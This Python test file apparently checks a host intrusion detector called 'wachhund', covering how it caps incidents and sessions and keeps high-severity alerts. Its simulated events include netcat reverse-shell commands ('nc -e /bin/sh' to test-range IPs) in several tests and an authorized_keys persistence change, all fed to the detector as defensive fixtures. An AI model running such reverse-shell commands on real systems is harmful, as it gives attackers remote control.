"""More incidents, sessions and events than a judge keeps in mind: what is grave is told all the same, once."""

import pytest

from tests.unit.host.judge.recording import BUILT_IN, SSHD, Recording, Verdicts
from wachhund.judge.engine import Judge
from wachhund.judge.incident import MAX_SESSIONS as IN_ONE_INCIDENT
from wachhund.judge.incident_book import MAX_INCIDENTS
from wachhund.judge.sessions import GIVEN_UP


def shells(scene: Recording, count: int) -> None:
    """Reverse shells by their command, each with other arguments: each a story of its own."""
    for number in range(count):
        scene.process(1_000 + number, "/tmp/nc", ["nc", "-e", "/bin/sh", "203.0.113.8", str(number)])


def test_who_begins_many_incidents_at_once_hides_none_by_it() -> None:
    """A backlog comes in one batch, and so does what a loop started: the first must be told beside the others."""
    scene = Recording()
    scene.coverage()
    scene.process(700, "/tmp/nc", ["nc", "-e", "/bin/sh", "203.0.113.7", "4444"])
    first = Verdicts(scene.facts).only["id"]
    shells(scene, MAX_INCIDENTS + 1)
    whole, one_by_one = Verdicts(scene.facts), Verdicts(scene.facts, batch=1)
    assert len(whole.incidents) == MAX_INCIDENTS + 2 and first in whole.incidents
    assert whole.incidents == one_by_one.incidents, "the same facts, the same incidents"


def test_what_is_grave_and_open_stays_in_mind_before_what_is_slight() -> None:
    """Who is on the robot now is found again by his process; the slight ones that he made go first."""
    scene = Recording("r1")
    scene.coverage()
    scene.process(100, SSHD)
    scene.listen(22, 100, SSHD)
    scene.accept(100, 22, "203.0.113.9")
    slight = Recording("r1")
    slight.wait(1_000)
    for number in range(MAX_INCIDENTS + 10):
        fields = {"ifname": f"tun{number}", "link_kind": "tun", "up": True, "addresses": ["10.9.0.2/24"]}
        slight.tell("link.change", **fields, default_route=False)
        slight.wait(100)
    judge = Judge(BUILT_IN.rules)
    told = judge.feed([*scene.facts, *slight.facts])
    assert len(told.incidents) == MAX_INCIDENTS + 11
    (grave,) = [one for one in told.incidents if one["level"] == "high"]
    assert grave["id"] in judge._robots["r1"].incidents.by_id


def test_an_incident_names_a_bounded_number_of_open_sessions_and_all_end_in_the_ledger(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Connections that stay open by the thousand: the incident stays readable, and none of them stays open for ever."""
    monkeypatch.setattr("wachhund.judge.sessions.MAX_SESSIONS", 100)
    scene = Recording()
    scene.coverage()
    scene.process(100, SSHD)
    scene.listen(22, 100, SSHD)
    opened = [scene.accept(100, 22, "203.0.113.9") for _ in range(120)]
    verdicts = Verdicts(scene.facts)
    assert len(verdicts.only["sessions"]) == IN_ONE_INCIDENT
    given_up = [session for session in verdicts.sessions.values() if session["last_t"] is not None]
    assert len(given_up) == 20 and GIVEN_UP in verdicts.only["unknown"], "what is no longer followed is said"
    for flow in opened:
        scene.close(flow)
    ended = Verdicts(scene.facts)
    assert [session for session in ended.sessions.values() if session["last_t"] is None] == []


def test_who_fills_a_story_does_not_hide_what_he_does_then() -> None:
    """Ninety copies of one program in ninety folders, and then the change that was meant."""
    scene = Recording()
    scene.coverage()
    scene.process(100, SSHD)
    scene.listen(22, 100, SSHD)
    scene.accept(100, 22, "203.0.113.9")
    scene.process(900, SSHD, line=(100,))
    scene.ssh_login(100, 900)
    for number in range(90):
        argv = ["nc", "-e", "/bin/sh", "203.0.113.7", "1"]
        scene.process(2_000 + number, f"/tmp/n{number}/nc", argv, line=(903, 900, 100))
    scene.wait(5)
    fields = {"class": "authorized_keys", "path": "/home/pi/.ssh/authorized_keys", "change": "modified"}
    scene.tell("persistence.change", **fields)
    story = Verdicts(scene.facts).only["story"]
    assert any("authorized_keys" in line for line in story) and "began" in story[0]
    assert any("more events in between are not told here" in line for line in story)
    assert len(story) <= 80 + 24 + 2, "sentences, programs, and two that count what is left out"
